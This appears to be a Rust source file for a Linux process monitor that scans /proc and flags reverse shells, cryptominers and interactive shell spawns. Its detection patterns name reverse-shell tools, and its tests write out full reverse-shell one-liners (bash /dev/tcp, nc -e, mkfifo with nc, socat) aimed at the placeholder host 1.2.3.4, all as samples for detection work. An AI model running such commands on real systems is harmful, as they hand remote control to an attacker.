//! Process monitor: detects process starts and exits from the proc
//! filesystem.
//!
//! Each scan snapshots the numeric entries of the proc tree and diffs them
//! against the previous snapshot. New pids are read, classified for
//! suspicious indicators, and emitted as `process_start` events; vanished
//! pids become `process_exit` events at INFO severity. Unreadable entries
//! (the process raced us and exited) are skipped silently.

use std::collections::HashMap;
use std::fmt::Write as _;
use std::path::{Path, PathBuf};
use std::time::Duration;

use chrono::{DateTime, TimeZone, Utc};
use parking_lot::RwLock;
use regex::Regex;
use sha2::{Digest, Sha256};
use tokio_util::sync::CancellationToken;
use tracing::{info, warn};

use apss_lib::models::{EventType, ProcessEventData, SecurityEvent, Severity};

use crate::collector::EventSender;

/// Names the kernel uses for interactive shells.
const SHELL_NAMES: [&str; 8] = ["sh", "bash", "zsh", "fish", "csh", "tcsh", "dash", "ash"];

/// Substrings identifying known cryptocurrency miners.
const MINER_TOKENS: [&str; 9] = [
    "xmrig",
    "minerd",
    "cpuminer",
    "cgminer",
    "bfgminer",
    "ethminer",
    "stratum",
    "cryptonight",
    "randomx",
];

const REVERSE_SHELL_PATTERNS: [&str; 9] = [
    r"bash\s+-i.*>&\s*/dev/tcp",
    r"nc\s+.*-e\s+/bin/(ba)?sh",
    r"python.*socket.*connect",
    r"perl.*socket.*connect",
    r"ruby.*TCPSocket",
    r"php.*fsockopen",
    r"socat.*exec",
    r"/dev/tcp/",
    r"mkfifo.*nc",
];

const MINING_POOL_PATTERNS: [&str; 4] = [
    r"stratum\+tcp://",
    r"pool\..*:\d+",
    r"-o\s+.*pool",
    r"--url.*mining",
];

/// Process monitor configuration.
#[derive(Debug, Clone)]
pub struct ProcessMonitorConfig {
    pub scan_interval: Duration,
    /// Operator-supplied regex patterns; invalid entries are skipped with a
    /// warning.
    pub suspicious_processes: Vec<String>,
    /// Root of the proc filesystem; overridable for tests.
    pub proc_root: PathBuf,
}

impl Default for ProcessMonitorConfig {
    fn default() -> Self {
        Self {
            scan_interval: Duration::from_secs(5),
            suspicious_processes: Vec::new(),
            proc_root: PathBuf::from("/proc"),
        }
    }
}

/// Snapshot of one running process.
#[derive(Debug, Clone)]
pub struct ProcessInfo {
    pub pid: i32,
    pub ppid: i32,
    pub name: String,
    pub exe: Option<String>,
    pub cmdline: Vec<String>,
    pub uid: Option<u32>,
    pub start_time: Option<DateTime<Utc>>,
    pub cmdline_hash: String,
}

/// Monitors processes visible in the local process-namespace view.
pub struct ProcessMonitor {
    cfg: ProcessMonitorConfig,
    events: EventSender,
    known: RwLock<HashMap<i32, ProcessInfo>>,
    suspicious_patterns: Vec<Regex>,
    reverse_shell_patterns: Vec<Regex>,
    mining_pool_patterns: Vec<Regex>,
}

impl ProcessMonitor {
    /// Create a new process monitor, compiling the configured and built-in
    /// pattern sets.
    pub fn new(cfg: ProcessMonitorConfig, events: EventSender) -> Self {
        let suspicious_patterns = cfg
            .suspicious_processes
            .iter()
            .filter_map(|pattern| match Regex::new(pattern) {
                Ok(re) => Some(re),
                Err(err) => {
                    warn!(pattern = %pattern, error = %err, "invalid process pattern");
                    None
                }
            })
            .collect();

        // Built-in sets are static and known-valid.
        let reverse_shell_patterns = REVERSE_SHELL_PATTERNS
            .iter()
            .filter_map(|p| Regex::new(p).ok())
            .collect();
        let mining_pool_patterns = MINING_POOL_PATTERNS
            .iter()
            .filter_map(|p| Regex::new(p).ok())
            .collect();

        Self {
            cfg,
            events,
            known: RwLock::new(HashMap::new()),
            suspicious_patterns,
            reverse_shell_patterns,
            mining_pool_patterns,
        }
    }

    /// Scan loop; runs until cancellation.
    pub async fn run(self, cancel: CancellationToken) {
        info!("starting process monitor");

        // Initial scan seeds the known set.
        self.scan();

        let mut ticker = tokio::time::interval(self.cfg.scan_interval);
        ticker.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Delay);
        ticker.tick().await;

        loop {
            tokio::select! {
                _ = cancel.cancelled() => {
                    info!("process monitor stopping");
                    return;
                }
                _ = ticker.tick() => self.scan(),
            }
        }
    }

    /// Diff the proc tree against the known set, emitting start and exit
    /// events.
    pub fn scan(&self) {
        let entries = match std::fs::read_dir(&self.cfg.proc_root) {
            Ok(entries) => entries,
            Err(err) => {
                warn!(error = %err, root = %self.cfg.proc_root.display(), "failed to read proc root");
                return;
            }
        };

        let mut current = Vec::new();
        for entry in entries.flatten() {
            let Ok(pid) = entry.file_name().to_string_lossy().parse::<i32>() else {
                continue;
            };
            current.push(pid);

            if self.known.read().contains_key(&pid) {
                continue;
            }
            // Process may have exited between the listing and the reads.
            let Some(info) = self.read_process(pid) else {
                continue;
            };
            self.known.write().insert(pid, info.clone());
            self.analyze_new_process(&info);
        }

        let exited: Vec<ProcessInfo> = {
            let mut known = self.known.write();
            let gone: Vec<i32> = known
                .keys()
                .filter(|pid| !current.contains(pid))
                .copied()
                .collect();
            gone.into_iter().filter_map(|pid| known.remove(&pid)).collect()
        };
        for info in exited {
            self.emit_process_exit(&info);
        }
    }

    /// Read one process from the proc tree. Returns `None` when any required
    /// file is unreadable.
    fn read_process(&self, pid: i32) -> Option<ProcessInfo> {
        let proc_dir = self.cfg.proc_root.join(pid.to_string());

        let cmdline_raw = std::fs::read(proc_dir.join("cmdline")).ok()?;
        let cmdline: Vec<String> = cmdline_raw
            .split(|b| *b == 0)
            .filter(|part| !part.is_empty())
            .map(|part| String::from_utf8_lossy(part).into_owned())
            .collect();

        let exe = std::fs::read_link(proc_dir.join("exe"))
            .ok()
            .map(|p| p.to_string_lossy().into_owned());

        let stat = std::fs::read_to_string(proc_dir.join("stat")).ok()?;
        let (name, ppid, start_ticks) = parse_stat_line(&stat)?;

        let uid = read_uid(&proc_dir.join("status"));
        let start_time = start_ticks
            .and_then(|ticks| boot_time(&self.cfg.proc_root).map(|boot| (boot, ticks)))
            .map(|(boot, ticks)| boot + chrono::Duration::milliseconds((ticks * 10) as i64));

        let mut hasher = Sha256::new();
        hasher.update(&cmdline_raw);
        let digest = hasher.finalize();

        Some(ProcessInfo {
            pid,
            ppid,
            name,
            exe,
            cmdline,
            uid,
            start_time,
            cmdline_hash: hex_string(&digest[..8]),
        })
    }

    /// Classify a new process and emit its start event.
    fn analyze_new_process(&self, proc: &ProcessInfo) {
        let cmdline = proc.cmdline.join(" ");
        let mut indicators = Vec::new();
        let mut severity = Severity::Info;

        for pattern in &self.suspicious_patterns {
            if pattern.is_match(&cmdline) || pattern.is_match(&proc.name) {
                indicators.push(format!("matches_pattern:{}", pattern.as_str()));
                severity = severity.max(Severity::High);
            }
        }

        if self.is_reverse_shell(&cmdline) {
            indicators.push("possible_reverse_shell".to_string());
            severity = severity.max(Severity::Critical);
        }

        if self.is_cryptominer(&proc.name, &cmdline) {
            indicators.push("possible_cryptominer".to_string());
            severity = severity.max(Severity::Critical);
        }

        if is_shell_spawn(proc) {
            indicators.push("shell_spawn".to_string());
            severity = severity.max(Severity::Medium);
        }

        let event = SecurityEvent::new(EventType::ProcessStart, severity)
            .with_process(ProcessEventData {
                pid: proc.pid,
                ppid: proc.ppid,
                name: proc.name.clone(),
                exe_path: proc.exe.clone(),
                cmdline: proc.cmdline.clone(),
                uid: proc.uid,
                start_time: proc.start_time,
                suspicious_indicators: indicators,
            })
            .with_metadata("cmdline_hash", proc.cmdline_hash.clone());

        self.events.send(event);
    }

    fn emit_process_exit(&self, proc: &ProcessInfo) {
        let event = SecurityEvent::new(EventType::ProcessExit, Severity::Info).with_process(
            ProcessEventData {
                pid: proc.pid,
                ppid: proc.ppid,
                name: proc.name.clone(),
                exe_path: proc.exe.clone(),
                cmdline: proc.cmdline.clone(),
                uid: proc.uid,
                start_time: proc.start_time,
                suspicious_indicators: Vec::new(),
            },
        );
        // Exit events are low value; drops are silent.
        self.events.send_silent(event);
    }

    /// Match the command line against the built-in reverse shell patterns.
    pub fn is_reverse_shell(&self, cmdline: &str) -> bool {
        self.reverse_shell_patterns
            .iter()
            .any(|re| re.is_match(cmdline))
    }

    /// Match name or command line against miner tokens and pool URLs.
    pub fn is_cryptominer(&self, name: &str, cmdline: &str) -> bool {
        let name_lower = name.to_lowercase();
        let cmdline_lower = cmdline.to_lowercase();

        if MINER_TOKENS
            .iter()
            .any(|token| name_lower.contains(token) || cmdline_lower.contains(token))
        {
            return true;
        }

        self.mining_pool_patterns
            .iter()
            .any(|re| re.is_match(&cmdline_lower))
    }
}

/// An interactive invocation of a known shell.
pub fn is_shell_spawn(proc: &ProcessInfo) -> bool {
    SHELL_NAMES.contains(&proc.name.as_str())
        && proc
            .cmdline
            .iter()
            .any(|arg| arg == "-i" || arg == "-il" || arg == "-li")
}

/// Parse a proc stat line into (name, ppid, starttime ticks).
///
/// The executable name sits inside parentheses and may itself contain spaces
/// or parentheses, so fields are split only after the *last* `)`.
pub fn parse_stat_line(stat: &str) -> Option<(String, i32, Option<u64>)> {
    let open = stat.find('(')?;
    let close = stat.rfind(')')?;
    if close < open {
        return None;
    }
    let name = stat[open + 1..close].to_string();

    let fields: Vec<&str> = stat[close + 1..].split_whitespace().collect();
    // fields[0] is the state; fields[1] the ppid; fields[19] the start time
    // in clock ticks (field 22 of the full line).
    let ppid = fields.get(1)?.parse::<i32>().ok()?;
    let start_ticks = fields.get(19).and_then(|f| f.parse::<u64>().ok());

    Some((name, ppid, start_ticks))
}

/// System boot time from the proc `stat` file's `btime` line.
fn boot_time(proc_root: &Path) -> Option<DateTime<Utc>> {
    let data = std::fs::read_to_string(proc_root.join("stat")).ok()?;
    for line in data.lines() {
        if let Some(rest) = line.strip_prefix("btime ") {
            let secs = rest.trim().parse::<i64>().ok()?;
            return Utc.timestamp_opt(secs, 0).single();
        }
    }
    None
}

/// Real UID from the `Uid:` line of a proc status file.
fn read_uid(status_path: &Path) -> Option<u32> {
    let data = std::fs::read_to_string(status_path).ok()?;
    for line in data.lines() {
        if let Some(rest) = line.strip_prefix("Uid:") {
            return rest.split_whitespace().next()?.parse::<u32>().ok();
        }
    }
    None
}

fn hex_string(bytes: &[u8]) -> String {
    let mut out = String::with_capacity(bytes.len() * 2);
    for byte in bytes {
        let _ = write!(out, "{byte:02x}");
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use tokio::sync::mpsc;

    fn test_monitor(patterns: Vec<String>) -> (ProcessMonitor, mpsc::Receiver<SecurityEvent>) {
        test_monitor_with_root(patterns, PathBuf::from("/nonexistent"))
    }

    fn test_monitor_with_root(
        patterns: Vec<String>,
        proc_root: PathBuf,
    ) -> (ProcessMonitor, mpsc::Receiver<SecurityEvent>) {
        let (tx, rx) = mpsc::channel(64);
        let sender = EventSender::new(tx, "procmon");
        let cfg = ProcessMonitorConfig {
            scan_interval: Duration::from_secs(5),
            suspicious_processes: patterns,
            proc_root,
        };
        (ProcessMonitor::new(cfg, sender), rx)
    }

    fn proc_info(name: &str, cmdline: &[&str]) -> ProcessInfo {
        ProcessInfo {
            pid: 100,
            ppid: 1,
            name: name.to_string(),
            exe: None,
            cmdline: cmdline.iter().map(|s| s.to_string()).collect(),
            uid: Some(0),
            start_time: None,
            cmdline_hash: String::new(),
        }
    }

    #[test]
    fn stat_line_with_plain_name() {
        let stat = "1234 (nginx) S 1 1234 1234 0 -1 4194560 100 0 0 0 5 3 0 0 20 0 1 0 98765 1000000 200 18446744073709551615 0 0 0 0 0 0 0 0 0 0 0 0 17 0 0 0 0 0 0";
        let (name, ppid, ticks) = parse_stat_line(stat).unwrap();
        assert_eq!(name, "nginx");
        assert_eq!(ppid, 1);
        assert_eq!(ticks, Some(98765));
    }

    #[test]
    fn stat_line_with_spaces_and_parens_in_name() {
        let stat = "42 (tmux: server (1)) S 7 42 42 0 -1 4194304 1 0 0 0 0 0 0 0 20 0 1 0 555 0 0 0 0 0 0 0 0 0 0 0 0 0 0 17 0 0 0 0 0 0";
        let (name, ppid, ticks) = parse_stat_line(stat).unwrap();
        assert_eq!(name, "tmux: server (1)");
        assert_eq!(ppid, 7);
        assert_eq!(ticks, Some(555));
    }

    #[test]
    fn stat_line_without_parens_is_rejected() {
        assert!(parse_stat_line("1234 garbage").is_none());
    }

    #[test]
    fn reverse_shell_patterns_classify_as_critical() {
        let (monitor, _rx) = test_monitor(Vec::new());
        assert!(monitor.is_reverse_shell("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"));
        assert!(monitor.is_reverse_shell("nc 1.2.3.4 4444 -e /bin/sh"));
        assert!(monitor.is_reverse_shell("mkfifo /tmp/f; cat /tmp/f | nc 1.2.3.4 9001"));
        assert!(monitor.is_reverse_shell("socat TCP:1.2.3.4:4444 exec:sh"));
        assert!(!monitor.is_reverse_shell("nginx -g daemon off;"));
    }

    #[test]
    fn miner_tokens_and_pool_urls_classify_as_cryptominer() {
        let (monitor, _rx) = test_monitor(Vec::new());
        assert!(monitor.is_cryptominer("xmrig", "xmrig --threads 8"));
        assert!(monitor.is_cryptominer("worker", "worker -o stratum+tcp://pool.example.com:3333"));
        assert!(monitor.is_cryptominer("app", "app --url https://mining.example.com"));
        assert!(!monitor.is_cryptominer("nginx", "nginx -g daemon off;"));
    }

    #[test]
    fn interactive_shell_is_shell_spawn() {
        assert!(is_shell_spawn(&proc_info("bash", &["bash", "-i"])));
        assert!(is_shell_spawn(&proc_info("sh", &["sh", "-il"])));
        assert!(!is_shell_spawn(&proc_info("bash", &["bash", "-c", "ls"])));
        assert!(!is_shell_spawn(&proc_info("nginx", &["nginx", "-i"])));
    }

    #[test]
    fn analyze_emits_event_with_max_severity() {
        let (monitor, mut rx) = test_monitor(Vec::new());
        let proc = proc_info("bash", &["bash", "-i"]);
        monitor.analyze_new_process(&proc);

        let event = rx.try_recv().unwrap();
        assert_eq!(event.event_type, EventType::ProcessStart);
        assert_eq!(event.severity, Severity::Medium);
        let process = event.process.unwrap();
        assert_eq!(
            process.suspicious_indicators,
            vec!["shell_spawn".to_string()]
        );
    }

    #[test]
    fn reverse_shell_lifts_severity_to_critical() {
        let (monitor, mut rx) = test_monitor(Vec::new());
        let mut proc = proc_info("bash", &["bash", "-i"]);
        proc.cmdline = vec![
            "bash".to_string(),
            "-i".to_string(),
            ">&".to_string(),
            "/dev/tcp/1.2.3.4/4444".to_string(),
        ];
        monitor.analyze_new_process(&proc);

        let event = rx.try_recv().unwrap();
        assert_eq!(event.severity, Severity::Critical);
        let indicators = event.process.unwrap().suspicious_indicators;
        assert!(indicators.contains(&"possible_reverse_shell".to_string()));
        assert!(indicators.contains(&"shell_spawn".to_string()));
    }

    #[test]
    fn configured_pattern_match_is_high() {
        let (monitor, mut rx) = test_monitor(vec!["nmap".to_string()]);
        monitor.analyze_new_process(&proc_info("nmap", &["nmap", "-sS", "10.0.0.0/24"]));

        let event = rx.try_recv().unwrap();
        assert_eq!(event.severity, Severity::High);
        assert_eq!(
            event.process.unwrap().suspicious_indicators,
            vec!["matches_pattern:nmap".to_string()]
        );
    }

    #[test]
    fn invalid_configured_pattern_is_skipped() {
        let (monitor, _rx) = test_monitor(vec!["([".to_string(), "nmap".to_string()]);
        assert_eq!(monitor.suspicious_patterns.len(), 1);
    }

    #[test]
    fn scan_detects_new_and_exited_processes() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();

        // Boot time for start-time derivation.
        std::fs::write(root.join("stat"), "cpu 1 2 3\nbtime 1700000000\n").unwrap();

        let pid_dir = root.join("4242");
        std::fs::create_dir(&pid_dir).unwrap();
        std::fs::write(pid_dir.join("cmdline"), b"sleep\x0060\x00").unwrap();
        std::fs::write(
            pid_dir.join("stat"),
            "4242 (sleep) S 1 4242 4242 0 -1 4194304 1 0 0 0 0 0 0 0 20 0 1 0 1000 0 0 0 0 0 0 0 0 0 0 0 0 0 0 17 0 0 0 0 0 0",
        )
        .unwrap();
        std::fs::write(pid_dir.join("status"), "Name:\tsleep\nUid:\t1000\t1000\t1000\t1000\n")
            .unwrap();

        let (monitor, mut rx) = test_monitor_with_root(Vec::new(), root.to_path_buf());
        monitor.scan();

        let event = rx.try_recv().unwrap();
        assert_eq!(event.event_type, EventType::ProcessStart);
        let process = event.process.unwrap();
        assert_eq!(process.pid, 4242);
        assert_eq!(process.ppid, 1);
        assert_eq!(process.name, "sleep");
        assert_eq!(process.cmdline, vec!["sleep".to_string(), "60".to_string()]);
        assert_eq!(process.uid, Some(1000));
        assert!(process.start_time.is_some());
        assert_eq!(event.metadata.get("cmdline_hash").map(String::len), Some(16));

        // Second scan with no change emits nothing.
        monitor.scan();
        assert!(rx.try_recv().is_err());

        // Remove the process; the next scan emits an exit.
        std::fs::remove_dir_all(&pid_dir).unwrap();
        monitor.scan();
        let exit = rx.try_recv().unwrap();
        assert_eq!(exit.event_type, EventType::ProcessExit);
        assert_eq!(exit.severity, Severity::Info);
    }
}
